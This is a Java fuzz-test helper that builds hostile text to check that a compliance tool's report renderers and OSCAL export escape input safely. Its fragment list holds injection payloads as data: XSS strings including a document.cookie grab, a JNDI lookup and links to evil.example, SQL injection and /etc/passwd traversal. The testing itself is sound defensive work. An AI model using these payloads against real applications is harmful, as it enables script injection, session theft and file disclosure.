package io.vigil.reports;

import io.vigil.domain.check.CheckId;
import io.vigil.domain.check.CheckIndex;
import io.vigil.domain.check.CheckResult;
import io.vigil.domain.check.CheckStatus;
import io.vigil.domain.check.Severity;
import io.vigil.domain.control.ClauseId;
import io.vigil.domain.control.ControlId;
import io.vigil.domain.evidence.Sha256;
import io.vigil.domain.finding.ActionStatus;
import io.vigil.domain.finding.CorrectiveAction;
import io.vigil.domain.finding.Finding;
import io.vigil.domain.finding.FindingId;
import io.vigil.domain.finding.FindingSource;
import io.vigil.domain.finding.FindingStatus;
import io.vigil.domain.finding.FindingType;
import io.vigil.domain.performance.Period;
import io.vigil.domain.performance.Report;
import io.vigil.domain.performance.Report.Block;
import io.vigil.domain.performance.Report.Chart;
import io.vigil.domain.performance.Report.NoData;
import io.vigil.domain.performance.Report.Paragraph;
import io.vigil.domain.performance.Report.Section;
import io.vigil.domain.performance.Report.Table;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile recorded text for the renderer fuzz test, and reports and OSCAL inputs made of it. A
 * string mixes fragments that attack one output or another — HTML and SVG markup, attribute
 * breakers, {@code javascript:} URLs, CSS and comment and CDATA terminators, Markdown and Slack
 * mrkdwn control (mentions, links, table pipes, leading {@code #} and {@code >}), line breaks,
 * bidi overrides, zero-width and other format characters, lone surrogates, NUL and other control
 * characters, noncharacters, emoji and other astral characters, CJK (which the PDF's standard
 * fonts cannot show) — with plain words and random code points; now and then it is empty, or
 * 10 000 characters long.
 */
final class Hostile {

  /** The length of a "huge" string: the UTF-16 length of a 10 000-character field. */
  static final int HUGE = 10_000;

  static final List<String> FRAGMENTS = List.of(
      // HTML, SVG, CSS
      "<script>alert(1)</script>", "</svg><script>alert(1)</script>",
      "</title><script>alert(1)</script>", "</text></g></svg><img src=x onerror=alert(1)>",
      "\" onload=\"alert(1)", "' onmouseover='alert(1)", "\"><img src=x onerror=alert(1)>",
      "javascript:alert(1)", "JaVaScRiPt:alert(document.cookie)", "data:text/html,<b>x</b>",
      "</style><style>*{display:none}</style>", "<style>@import url(http://evil.example)</style>",
      "<!--", "-->", "]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>",
      "<!DOCTYPE x [<!ENTITY e \"boom\">]>&e;", "<iframe srcdoc=\"x\">",
      "<meta http-equiv=refresh>",
      "<a href=\"http://evil.example\">click</a>", "<math><mi xlink:href=\"x\">",
      "&amp;", "&lt;", "&#60;", "&#x3C;", "&", "&nbsp", "&bogus;", "%3Cscript%3E",
      // Markdown, Slack mrkdwn
      "*bold*", "_em_", "~strike~", "`code`", "```", "~~~", "\\", "\\*", "|", "| a | b |",
      "| --- | --- |", "[link](javascript:alert(1))", "[x](http://evil.example)",
      "![img](http://evil.example/p.png)", "[ref]: http://evil.example", "<http://evil.example>",
      "<!channel>", "<!here>", "<!everyone>", "<@U123>", "<#C123>", "<!subteam^S123>",
      "<http://evil.example|click here>", "# heading", "## h2", "> quote", "- item", "+ item",
      "* item", "1. item", "2) item", "===", "---", "***", "    indented code", ":smile:",
      "{{7*7}}", "${jndi:ldap://evil.example/a}", "=HYPERLINK(\"http://evil.example\")",
      // line breaks and white space
      "\n", "\r\n", "\r", "\n\n", "\t", " ", "  leading", "trailing  ", "\u00A0", "\u2028",
      "\u2029", "\u0085", "\u3000", "\u2003",
      // bidi and zero-width
      "\u202Eevil\u202C", "\u202D", "\u2066x\u2069", "\u200B", "\u200C", "\u200D", "\uFEFF",
      "\u00AD", "\u2060",
      // surrogates: lone high, lone low, reversed pair
      "\uD800", "\uDFFF", "\uDBFF\uD800", "a\uD83D", "\uDE00b",
      // control characters and noncharacters
      "\0", "\u0001", "\u0007", "\b", "\u000B", "\f", "\u001B[31m", "\u007F", "\u0080",
      "\u009F", "\uFFFE", "\uFFFF", "\uFFFD",
      // astral, combining, CJK and other scripts
      "\uD83D\uDE00", "\uD835\uDD4F", "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
      "\uD83C\uDDFA\uD83C\uDDF8", "\uD800\uDC00", "\u4E2D\u6587\u5B57\u7B26",
      "\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8", "\uD55C\uAD6D\uC5B4",
      "\u0645\u0631\u062D\u0628\u0627", "\uFB01", "\u0151", "\u03A9", "\u2265 24 h", "\u2192",
      "\u2026", "\u20AC", "\u00A9", "\u216B", "\u00E9", "e\u0301", "Z\u0351\u0352\u0353",
      // ordinary collected data
      "arn:aws:s3:::acme-invoices", "acme-prod-logs", "deploy-user", "Public bucket",
      "' OR 1=1 --", "../../etc/passwd", "%00", "%s%n");

  private static final List<String> WORDS = List.of("bucket", "acme", "prod", "finding", "x",
      "review", "A.8.24", "2026-11", "0", "100 %", "owner@acme.example", "ISO/IEC", "n/a");

  private Hostile() {}

  /** One hostile string. */
  static String text(Random rnd) {
    int dice = rnd.nextInt(100);
    if (dice < 3) {
      return huge(rnd);
    }
    if (dice < 6) {
      return "";
    }
    var sb = new StringBuilder();
    int parts = 1 + rnd.nextInt(4);
    for (int i = 0; i < parts; i++) {
      switch (rnd.nextInt(5)) {
        case 0, 1, 2 -> sb.append(pick(rnd, FRAGMENTS));
        case 3 -> sb.append(pick(rnd, WORDS));
        default -> randomChars(sb, rnd, 1 + rnd.nextInt(12));
      }
      if (rnd.nextInt(3) == 0) {
        sb.append(' ');
      }
    }
    return sb.toString();
  }

  /** Hostile text that is not blank (for the fields the domain requires). */
  static String nonBlank(Random rnd) {
    var s = text(rnd);
    return s.isBlank() ? "x" + s : s;
  }

  /** Hostile text, or now and then null (for the fields a report may leave out). */
  static String nullable(Random rnd) {
    return rnd.nextInt(20) == 0 ? null : text(rnd);
  }

  /** {@value #HUGE} UTF-16 units: one long word, many words, or fragments over and over. */
  static String huge(Random rnd) {
    var sb = new StringBuilder(HUGE + 64);
    int kind = rnd.nextInt(4);
    while (sb.length() < HUGE) {
      switch (kind) {
        case 0 -> sb.append('x');
        case 1 -> sb.append(pick(rnd, WORDS)).append(' ');
        case 2 -> sb.append(pick(rnd, FRAGMENTS));
        default -> randomChars(sb, rnd, 16);
      }
    }
    sb.setLength(HUGE);
    return sb.toString();
  }

  /**
   * Random code points from ASCII (with controls), Latin-1, the BMP (with lone surrogates), CJK
   * and the astral planes.
   */
  static void randomChars(StringBuilder sb, Random rnd, int n) {
    for (int i = 0; i < n; i++) {
      int cp = switch (rnd.nextInt(6)) {
        case 0 -> rnd.nextInt(0x80);
        case 1 -> 0x80 + rnd.nextInt(0x80);
        case 2 -> rnd.nextInt(0x10000);
        case 3 -> 0x4E00 + rnd.nextInt(0x5200);
        case 4 -> 0x1F300 + rnd.nextInt(0x800);
        default -> 0x10000 + rnd.nextInt(0x100000);
      };
      sb.appendCodePoint(cp);
    }
  }

  /** True when {@code s} has a surrogate that is not half of a pair. */
  static boolean hasLoneSurrogate(String s) {
    if (s == null) {
      return false;
    }
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (Character.isHighSurrogate(c)) {
        if (i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
          i++;
          continue;
        }
        return true;
      }
      if (Character.isLowSurrogate(c)) {
        return true;
      }
    }
    return false;
  }

  static <T> T pick(Random rnd, List<T> from) {
    return from.get(rnd.nextInt(from.size()));
  }

  // ---- reports

  private static final List<Period> PERIODS = List.of(Sample.PERIOD, Period.parse("2026-W48"),
      Period.quarter(2026, 4), Period.month(YearMonth.of(2027, 1)));

  /** A report of up to four sections whose every text is hostile. */
  static Report report(Random rnd) {
    var sections = new ArrayList<Section>();
    int n = rnd.nextInt(5);
    for (int i = 0; i < n; i++) {
      var blocks = new ArrayList<Block>();
      int b = rnd.nextInt(6);
      for (int k = 0; k < b; k++) {
        blocks.add(block(rnd));
      }
      sections.add(new Section(nullable(rnd), nullable(rnd), blocks));
    }
    var highlights = new ArrayList<String>();
    int h = rnd.nextInt(6);
    for (int i = 0; i < h; i++) {
      highlights.add(text(rnd));
    }
    return new Report(text(rnd), text(rnd), pick(rnd, PERIODS), Sample.NOW, sections,
        highlights);
  }

  private static Block block(Random rnd) {
    return switch (rnd.nextInt(4)) {
      case 0 -> new Paragraph(nullable(rnd));
      case 1 -> new NoData(nullable(rnd));
      case 2 -> table(rnd);
      default -> chart(rnd);
    };
  }

  private static Table table(Random rnd) {
    int cols = rnd.nextInt(12) == 0 ? 0 : 1 + rnd.nextInt(5);
    var headers = new ArrayList<String>();
    for (int c = 0; c < cols; c++) {
      headers.add(text(rnd));
    }
    var rows = new ArrayList<List<String>>();
    int n = cols == 0 ? 0 : rnd.nextInt(7);
    for (int r = 0; r < n; r++) {
      var row = new ArrayList<String>();
      for (int c = 0; c < cols; c++) {
        row.add(text(rnd));
      }
      rows.add(row);
    }
    return new Table(nullable(rnd), headers, rows);
  }

  private static Chart chart(Random rnd) {
    int n = rnd.nextInt(10) == 0 ? 0 : 1 + rnd.nextInt(14);
    var labels = new ArrayList<String>();
    var values = new ArrayList<Double>();
    for (int i = 0; i < n; i++) {
      labels.add(rnd.nextInt(4) == 0 ? "2026-" + String.format("%02d", 1 + i % 12) : text(rnd));
      values.add(switch (rnd.nextInt(8)) {
        case 0 -> null;
        case 1 -> Double.NaN;
        case 2 -> -rnd.nextDouble() * 50;
        case 3 -> 0.0;
        case 4 -> rnd.nextDouble() * 1e6;
        default -> rnd.nextDouble() * 100;
      });
    }
    var unit = switch (rnd.nextInt(5)) {
      case 0 -> "%";
      case 1 -> "days";
      case 2 -> null;
      case 3 -> "";
      default -> text(rnd);
    };
    var maximum = switch (rnd.nextInt(3)) {
      case 0 -> 100.0;
      case 1 -> null;
      default -> 1 + rnd.nextDouble() * 1000;
    };
    return new Chart(rnd.nextBoolean() ? Chart.Kind.LINE : Chart.Kind.BARS, nullable(rnd), unit,
        labels, values, maximum);
  }

  // ---- OSCAL inputs

  private static final List<String> CHECKS = List.of("s3_bucket_public_access_blocked",
      "ec2_ebs_default_encryption_enabled", "cloudtrail_multi_region_trail_enabled",
      "dynamodb_table_pitr_enabled");

  /** Check results, findings and corrective actions whose collected and typed texts are hostile. */
  record OscalInput(List<CheckResult> results, List<Finding> findings,
      List<CorrectiveAction> actions) {}

  static OscalInput oscal(Random rnd) {
    var results = new ArrayList<CheckResult>();
    int n = 1 + rnd.nextInt(4);
    for (int i = 0; i < n; i++) {
      var check = pick(rnd, CHECKS);
      var meta = CheckIndex.bundled().check(check).orElseThrow();
      var arn = rnd.nextBoolean() ? "arn:aws:s3:::" + text(rnd) : text(rnd);
      results.add(new CheckResult(text(rnd), CheckId.of(check),
          CheckStatus.values()[rnd.nextInt(CheckStatus.values().length)],
          rnd.nextBoolean() ? "111122223333" : text(rnd), rnd.nextBoolean() ? "eu-west-1"
              : text(rnd), arn, rnd.nextBoolean() ? "AWS::S3::Bucket" : text(rnd),
          List.of(ControlId.parse("A.8.3"), ControlId.parse("A.8.24")), meta.severity(),
          Instant.parse("2026-11-30T05:00:00Z").plusSeconds(i), Sha256.of(check + "|" + i),
          text(rnd)));
    }
    var findings = new ArrayList<Finding>();
    var actions = new ArrayList<CorrectiveAction>();
    int f = 1 + rnd.nextInt(3);
    for (int i = 0; i < f; i++) {
      var from = rnd.nextBoolean() ? results.get(rnd.nextInt(results.size())) : null;
      var id = FindingId.of("F-" + (100 + i));
      findings.add(new Finding(id, FindingType.values()[rnd.nextInt(FindingType.values().length)],
          from == null ? FindingSource.INTERNAL_AUDIT : FindingSource.AUTOMATED_CHECK,
          FindingStatus.values()[rnd.nextInt(FindingStatus.values().length)], nonBlank(rnd),
          nullable(rnd), Severity.values()[rnd.nextInt(Severity.values().length)],
          from == null ? List.of(ControlId.parse("A.5.18")) : from.controls(),
          rnd.nextBoolean() ? List.of(new ClauseId("9.2")) : List.of(),
          from == null ? null : from.checkId(), from == null ? null : from.accountId(),
          from == null ? null : from.region(), from == null ? null : from.resourceArn(),
          Instant.parse("2026-10-01T05:00:00Z"), rnd.nextBoolean() ? null
              : LocalDate.parse("2026-11-15"), nullable(rnd), nullable(rnd), null, null, null,
          null, null, 0));
      int a = rnd.nextInt(3);
      for (int k = 0; k < a; k++) {
        actions.add(new CorrectiveAction("A-" + (100 + i) + "-" + k, id, nonBlank(rnd),
            nonBlank(rnd), LocalDate.parse("2026-12-01").plusDays(rnd.nextInt(60) - 30),
            ActionStatus.values()[rnd.nextInt(ActionStatus.values().length)], nullable(rnd),
            null, null, 0));
      }
    }
    return new OscalInput(results, findings, actions);
  }
}
